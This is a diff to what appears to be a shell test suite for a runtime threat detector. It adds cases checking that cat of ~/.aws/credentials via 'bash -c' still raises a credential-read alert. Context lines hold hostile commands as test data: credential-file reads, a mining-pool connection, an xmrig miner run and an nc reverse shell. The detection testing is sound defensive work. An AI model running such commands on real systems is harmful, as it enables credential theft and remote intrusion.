@@ -149,6 +149,11 @@ act "read ~/.aws/credentials" "$app" "Read of SSH keys or cloud credentials" $X 
 act "uid 1000 reads /home/app/.aws/credentials" "$app" "Read of SSH keys or cloud credentials" \
 	$X -u 1000 "$app" /bin/cat /home/app/.aws/credentials
 act "uid 1000 reads /home/app/notes.txt" "$app" "" $X -u 1000 "$app" /bin/cat /home/app/notes.txt
+act "uid 1000 reads credentials from within ~/.aws" "$app" "Read of SSH keys or cloud credentials" \
+	$X -u 1000 "$app" /bin/bash -c 'cd /home/app/.aws && cat credentials'
+act "uid 1000 reads .aws/credentials from ~" "$app" "Read of SSH keys or cloud credentials" \
+	$X -u 1000 "$app" /bin/bash -c 'cd /home/app && cat .aws/credentials'
+act "uid 1000 reads notes.txt from ~" "$app" "" $X -u 1000 "$app" /bin/bash -c 'cd /home/app && cat notes.txt'
 act "connect to a pool port (3333)" "$app" "Outbound connection to a mining pool port" $X "$app" /opt/bhr/act connect "$peer_ip" 3333
 act "miner by name" "$app" "Crypto miner run" $X "$app" /opt/bhr/xmrig --donate-level 1
 act "reverse shell (nc -e /bin/sh)" "$app" "Reverse shell" $X "$app" /usr/bin/nc "$peer_ip" 9001 -e /bin/sh
